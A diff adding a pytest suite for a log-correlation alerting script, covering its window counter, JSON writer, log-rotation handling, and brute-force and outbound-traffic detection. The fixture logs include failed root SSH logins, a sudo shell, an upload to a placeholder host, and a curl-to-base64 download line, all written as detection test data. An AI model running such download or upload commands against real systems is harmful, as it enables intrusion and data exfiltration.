@@ -0,0 +1,150 @@
+import json
+import os
+import sqlite3
+import sys
+
+import pytest
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "scripts"))
+
+import correlate
+from correlate import JsonArrayWriter, SlidingWindowCounter, read_new_lines
+
+
+def test_hits_within_window_are_counted():
+    counter = SlidingWindowCounter(window=600, max_hits=5, max_keys=10)
+    assert counter.hit("1.2.3.4", 1000) == (0, 1)
+    assert counter.hit("1.2.3.4", 1300) == (1, 2)
+    assert counter.hit("1.2.3.4", 1700) == (1, 2)
+
+
+def test_earlier_file_does_not_count_future_hits():
+    # A later log file can start months before the previous one ended
+    counter = SlidingWindowCounter(window=600, max_hits=5, max_keys=10)
+    counter.hit("1.2.3.4", 2_000_000)
+    counter.hit("1.2.3.4", 2_000_010)
+    assert counter.hit("1.2.3.4", 1_000_000) == (0, 1)
+    assert counter.hit("1.2.3.4", 1_000_100) == (1, 2)
+
+
+def test_small_reordering_stays_in_window():
+    counter = SlidingWindowCounter(window=600, max_hits=5, max_keys=10)
+    counter.hit("1.2.3.4", 5000)
+    assert counter.hit("1.2.3.4", 4900) == (1, 2)
+
+
+def test_json_array_appends_in_place(tmp_path):
+    path = str(tmp_path / "cases.json")
+    for batch in ([], [{"id": 1}], [], [{"id": 2}, {"id": 3}]):
+        writer = JsonArrayWriter(path, append=True)
+        for item in batch: writer.write(item)
+        writer.close()
+    with open(path) as f: assert json.load(f) == [{"id": 1}, {"id": 2}, {"id": 3}]
+    assert not os.path.exists(path + ".tmp")
+
+
+def test_json_array_resumes_after_missing_bracket(tmp_path):
+    path = tmp_path / "cases.json"
+    path.write_text('[\n{"id": 1}')
+    writer = JsonArrayWriter(str(path), append=True)
+    writer.write({"id": 2})
+    writer.close()
+    assert json.loads(path.read_text()) == [{"id": 1}, {"id": 2}]
+
+
+def test_json_array_check_rejects_a_malformed_file_untouched(tmp_path):
+    path = tmp_path / "cases.json"
+    path.write_text('[\n{"id": 1}, garbage')
+    with pytest.raises(ValueError):
+        JsonArrayWriter(str(path), append=True).check()
+    assert path.read_text() == '[\n{"id": 1}, garbage'
+
+
+def test_read_new_lines_waits_for_a_partial_line(tmp_path):
+    log = tmp_path / "auth.log"
+    log.write_text("one\ntwo\nthr")
+    checkpoint = {}
+    assert list(read_new_lines(str(log), checkpoint)) == ["one\n", "two\n"]
+    assert checkpoint["offset"] == len("one\ntwo\n")
+    with open(log, "a") as f: f.write("ee\n")
+    assert list(read_new_lines(str(log), checkpoint)) == ["three\n"]
+    assert list(read_new_lines(str(log), checkpoint)) == []
+
+
+def test_read_new_lines_with_tail_reads_a_partial_line_without_consuming_it(tmp_path):
+    log = tmp_path / "auth.log"
+    log.write_text("one\ntwo")
+    checkpoint = {}
+    assert list(read_new_lines(str(log), checkpoint, tail=True)) == ["one\n", "two"]
+    assert checkpoint["offset"] == len("one\n")
+    with open(log, "a") as f: f.write("\n")
+    assert list(read_new_lines(str(log), checkpoint)) == ["two\n"]
+
+
+def test_read_new_lines_rereads_a_truncated_file(tmp_path):
+    log = tmp_path / "auth.log"
+    log.write_text("one\ntwo\n")
+    checkpoint = {}
+    list(read_new_lines(str(log), checkpoint))
+    log.write_text("new\n")
+    assert list(read_new_lines(str(log), checkpoint)) == ["new\n"]
+
+
+def test_read_new_lines_drains_a_rotated_file_first(tmp_path):
+    log = tmp_path / "auth.log"
+    log.write_text("one\n")
+    checkpoint = {}
+    list(read_new_lines(str(log), checkpoint))
+    with open(log, "a") as f: f.write("two\n")
+    os.rename(log, tmp_path / "auth.log.1")
+    log.write_text("three\n")
+    assert list(read_new_lines(str(log), checkpoint)) == ["two\n", "three\n"]
+    assert checkpoint == {"inode": os.stat(log).st_ino, "offset": len("three\n")}
+
+
+def write_logs(log_dir):
+    # Brute-force and outbound counts only cross their thresholds across file boundaries
+    log_dir.mkdir()
+    failed = "sshd[1]: Failed password for root from 10.0.0.9 port 22 ssh2"
+    (log_dir / "a.log").write_text(
+        "2026-03-01T10:00:00+00:00 host " + failed + "\n"
+        "2026-03-01T10:00:10+00:00 host " + failed + "\n"
+        "2026-03-01T10:00:20+00:00 host proxy: CONNECT 203.0.113.7:443\n"
+        "2026-03-01T10:00:30+00:00 host sudo: alice : COMMAND=/bin/sh\n")
+    (log_dir / "b.log").write_text(
+        "2026-03-01T10:01:00+00:00 host " + failed + "\n"
+        "2026-03-01T10:01:10+00:00 host proxy: POST 203.0.113.7/upload\n"
+        "2026-03-01T10:01:20+00:00 host " + failed + "\n"
+        "2026-03-01T10:01:30+00:00 host " + failed + "\n")
+    (log_dir / "c.log").write_text(
+        "Mar  1 10:02:00 host proxy: CONNECT 203.0.113.7:443\n"
+        "Mar  1 10:02:10 host bash: curl http://203.0.113.7/x | base64 -d > /tmp/x\n")
+
+
+def run_correlate(tmp_path, monkeypatch, workers):
+    run_dir = tmp_path / f"workers{workers}"
+    run_dir.mkdir()
+    write_logs(run_dir / "logs")
+    (run_dir / "reports").mkdir()
+    monkeypatch.chdir(run_dir)
+    monkeypatch.setattr(sys, "argv", ["correlate.py", "--workers", str(workers)])
+    correlate.main()
+    findings = (run_dir / "reports" / "findings.txt").read_text()
+    cases = json.loads((run_dir / "reports" / "cases.json").read_text())
+    conn = sqlite3.connect(str(run_dir / "soc.db"))
+    alerts = conn.execute("""
+        SELECT alert_id, severity, description, status, timestamp, ts_epoch FROM alerts ORDER BY id
+    """).fetchall()
+    conn.close()
+    return findings, cases, alerts
+
+
+def test_parallel_run_matches_sequential(tmp_path, monkeypatch):
+    sequential = run_correlate(tmp_path, monkeypatch, 1)
+    parallel = run_correlate(tmp_path, monkeypatch, 2)
+    assert parallel == sequential
+    findings, cases, alerts = sequential
+    assert "[MEDIUM] Brute-force detected from 10.0.0.9" in findings
+    assert "[HIGH] Brute-force detected from 10.0.0.9" in findings
+    assert "[HIGH] Suspicious outbound traffic to 203.0.113.7" in findings
+    assert len(cases) == len(alerts) == len(findings.splitlines())